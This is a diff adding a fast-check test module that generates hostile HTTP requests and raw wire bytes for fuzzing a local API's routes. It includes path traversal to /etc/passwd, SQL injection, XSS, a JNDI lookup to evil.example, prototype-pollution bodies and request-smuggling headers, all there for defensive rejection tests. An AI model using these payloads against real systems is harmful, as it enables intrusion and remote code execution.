@@ -1,0 +1,201 @@
+import fc from 'fast-check'
+import { OPERATOR_TOKEN, VIEWER_TOKEN } from './api.ts'
+
+/** A request that no route may take, over HTTP. */
+export interface HostileRequest {
+  readonly method: 'GET' | 'POST' | 'PUT' | 'DELETE' | 'PATCH' | 'OPTIONS' | 'HEAD'
+  readonly url: string
+  readonly headers: Readonly<Record<string, string>>
+  readonly payload?: string
+}
+
+const OPERATOR = { authorization: `Bearer ${OPERATOR_TOKEN}`, host: 'localhost' }
+const VIEWER = { authorization: `Bearer ${VIEWER_TOKEN}`, host: 'localhost' }
+const JSON_TYPE = { 'content-type': 'application/json' }
+
+const READS = [
+  '/openapi.json',
+  '/api/v1/status',
+  '/api/v1/workloads',
+  '/api/v1/workloads/catalog',
+  '/api/v1/fleet',
+  '/api/v1/journal',
+  '/api/v1/journal/head',
+  '/api/v1/journal/verify',
+  '/api/v1/report',
+  '/api/v1/decommission',
+  '/api/v1/stream',
+]
+const OPEN = ['/healthz', '/readyz', '/metrics']
+const COMMANDS = ['/api/v1/workloads/catalog/commands', '/api/v1/commands']
+const CHANGES = [...COMMANDS, '/api/v1/reload']
+const NASTY = [
+  '../../../../etc/passwd',
+  '..%2f..%2fetc%2fpasswd',
+  '%00',
+  '%zz',
+  '%',
+  "' OR 1=1 --",
+  '<script>alert(1)</script>',
+  '${jndi:ldap://evil.example/a}',
+  '{{7*7}}',
+  '__proto__',
+  'constructor',
+  'ﷺ'.repeat(100),
+  'a'.repeat(4000),
+  '-1',
+  '1e309',
+  'NaN',
+  '0x10',
+  '[]',
+  ' ',
+]
+
+const nasty = fc.oneof(fc.constantFrom(...NASTY), fc.string({ unit: 'binary', maxLength: 60 }))
+/** In a header no line may end. */
+const inHeader = nasty.map((text) => text.replaceAll(/[^\x20-\x7e]/g, '?').slice(0, 2000))
+const route = fc.constantFrom(...READS, ...CHANGES)
+const methodOf = (url: string) => (CHANGES.includes(url) ? 'POST' : 'GET')
+
+const badToken = fc.oneof(
+  inHeader,
+  inHeader.map((text) => `Bearer ${text}`),
+  inHeader.map((text) => `Basic ${Buffer.from(`ada:${text}`).toString('base64')}`),
+  fc.constant(`Basic ${Buffer.from(`ada:${OPERATOR_TOKEN}`).toString('base64')}`),
+  fc.constant(`Bearer ${OPERATOR_TOKEN.slice(0, -1)}`),
+  fc.constant(`Bearer ${OPERATOR_TOKEN} ${VIEWER_TOKEN}`),
+  fc
+    .tuple(fc.json({ maxDepth: 2 }), fc.json({ maxDepth: 2 }))
+    .map((parts) => `Bearer ${parts.map((part) => Buffer.from(part).toString('base64url')).join('.')}.c2ln`),
+)
+
+const badBody = fc.oneof(
+  fc.json({ maxDepth: 4 }).map((text) => text),
+  fc.string({ unit: 'binary', maxLength: 200 }),
+  fc.constantFrom(
+    '{"command":"revert","reason":"x","__proto__":{"force":true}}',
+    '{"command":"revert","reason":"x","constructor":{"prototype":{}}}',
+    '{"command":"revert","reason":"two\\nlines"}',
+    '{"command":"explode","reason":"x"}',
+    '{"command":"pause","reason":"x","force":true}',
+    '{"command":"pause","reason":"x","force":"yes"}',
+    '{"command":"pause","reason":""}',
+    '{"command":"pause","reason":{"$gt":""}}',
+    '{"command":["pause"],"reason":"x"}',
+    '{"command":"pause","reason":"x","role":"admin"}',
+    '[',
+    '{"a":'.repeat(2000),
+    '['.repeat(20_000),
+    `{"reason":"${'x'.repeat(70_000)}"}`,
+    '',
+  ),
+)
+
+/** Each kind of request has a defect for certain. */
+export const hostileRequest: fc.Arbitrary<HostileRequest> = fc.oneof(
+  // Who may not ask.
+  fc.record({ url: route, authorization: badToken }).map(({ url, authorization }) => ({
+    ...{ method: methodOf(url), url, headers: { host: 'localhost', authorization } },
+  })) as fc.Arbitrary<HostileRequest>,
+  route.map((url): HostileRequest => ({ method: methodOf(url), url, headers: { host: 'localhost' } })),
+  fc
+    .record({ url: fc.constantFrom(...CHANGES), payload: badBody })
+    .map(
+      ({ url, payload }): HostileRequest => ({ method: 'POST', url, payload, headers: { ...VIEWER, ...JSON_TYPE } }),
+    ),
+  // From where nobody asks.
+  fc
+    .record({ url: fc.constantFrom(...READS, ...OPEN), host: inHeader })
+    .map(({ url, host }): HostileRequest => ({ method: 'GET', url, headers: { ...OPERATOR, host: `x${host}` } })),
+  // What does not fit.
+  fc
+    .record({ url: fc.constantFrom(...COMMANDS), payload: badBody })
+    .map(
+      ({ url, payload }): HostileRequest => ({ method: 'POST', url, payload, headers: { ...OPERATOR, ...JSON_TYPE } }),
+    ),
+  fc.record({ url: fc.constantFrom(...COMMANDS), payload: badBody, type: inHeader }).map(
+    ({ url, payload, type }): HostileRequest => ({
+      ...{ method: 'POST', url, payload },
+      headers: { ...OPERATOR, 'content-type': `x/${type}` },
+    }),
+  ),
+  inHeader.map(
+    (key): HostileRequest => ({
+      method: 'POST',
+      url: '/api/v1/workloads/catalog/commands',
+      headers: { ...OPERATOR, ...JSON_TYPE, 'idempotency-key': `!${key}` },
+      payload: '{"command":"pause","reason":"x"}',
+    }),
+  ),
+  fc
+    .record({
+      url: fc.constantFrom(
+        '/api/v1/journal?limit=',
+        '/api/v1/journal?afterSeq=',
+        '/api/v1/stream?afterSeq=',
+        '/api/v1/journal/verify?hash=',
+        '/api/v1/report?format=',
+      ),
+      value: nasty,
+    })
+    .map(
+      ({ url, value }): HostileRequest => ({
+        method: 'GET',
+        url: `${url}x${encodeURI(value.toWellFormed())}`,
+        headers: OPERATOR,
+      }),
+    ),
+  // What is not there.
+  fc
+    .record({
+      before: fc.constantFrom('/', '/api/', '/api/v1/', '/api/v1/workloads/', '/api/v1/workloads/catalog/', '/static/'),
+      value: nasty,
+    })
+    .map(
+      ({ before, value }): HostileRequest => ({
+        ...{ method: 'GET', headers: OPERATOR },
+        url: `${before}~${value.toWellFormed().replaceAll(/[^\x21-\x7e]/gu, encodeURIComponent)}`,
+      }),
+    ),
+  fc
+    .record({ url: route, method: fc.constantFrom('PUT', 'DELETE', 'PATCH', 'OPTIONS') })
+    .map(({ url, method }) => ({ method, url, headers: OPERATOR })) as fc.Arbitrary<HostileRequest>,
+)
+
+const LINE = '\r\n'
+const GET = `GET /api/v1/status HTTP/1.1${LINE}`
+const HOST = `Host: localhost${LINE}`
+const TOKEN = `Authorization: Bearer ${OPERATOR_TOKEN}${LINE}`
+const POST = `POST /api/v1/commands HTTP/1.1${LINE}${HOST}${TOKEN}Content-Type: application/json${LINE}`
+
+/** What comes over the wire and is no request, or none that may be answered: byte by byte. */
+export const HOSTILE_BYTES: readonly string[] = [
+  `GARBAGE${LINE}${LINE}`,
+  `GET${LINE}${LINE}`,
+  `GET / HTTP/9.9${LINE}${LINE}`,
+  `BREW /api/v1/status HTTP/1.1${LINE}${HOST}${LINE}`,
+  `GET /api/v1/status${LINE}${LINE}`,
+  `${GET}${LINE}`,
+  `${GET}Host: evil.example${LINE}${TOKEN}${LINE}`,
+  `${GET}${HOST}Host: evil.example${LINE}Authorization: Bearer nothing${LINE}${LINE}`,
+  `${GET}${HOST}No colon${LINE}${LINE}`,
+  `${GET}${HOST}Bad Name: x${LINE}${LINE}`,
+  `${GET}${HOST}Null: a\0b${LINE}${LINE}`,
+  `${GET}${HOST}Large: ${'x'.repeat(20_000)}${LINE}${LINE}`,
+  `${GET}${HOST}${'A: b\r\n'.repeat(4000)}${LINE}`,
+  `${GET}${HOST}Expect: the impossible${LINE}${LINE}`,
+  `GET /${'x'.repeat(20_000)} HTTP/1.1${LINE}${HOST}${LINE}`,
+  `GET /%zz HTTP/1.1${LINE}${HOST}${TOKEN}${LINE}`,
+  `GET /api/v1/workloads/%c0%ae HTTP/1.1${LINE}${HOST}${TOKEN}${LINE}`,
+  `GET http://evil.example/api/v1/status HTTP/1.1${LINE}${HOST}${LINE}`,
+  `CONNECT evil.example:443 HTTP/1.1${LINE}Host: evil.example:443${LINE}${LINE}`,
+  `TRACE /api/v1/status HTTP/1.1${LINE}${HOST}${TOKEN}${LINE}`,
+  `${POST}Content-Length: -1${LINE}${LINE}{}`,
+  `${POST}Content-Length: 2${LINE}Content-Length: 9${LINE}${LINE}{}`,
+  `${POST}Content-Length: 4${LINE}Transfer-Encoding: chunked${LINE}${LINE}0${LINE}${LINE}`,
+  `${POST}Transfer-Encoding: chunked${LINE}${LINE}zz${LINE}{}${LINE}`,
+  `${POST}Transfer-Encoding: gzip${LINE}${LINE}{}`,
+  `${POST}Content-Length: 2${LINE}${LINE}{}`,
+  `PRI * HTTP/2.0${LINE}${LINE}SM${LINE}${LINE}`,
+  `\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03`,
+]
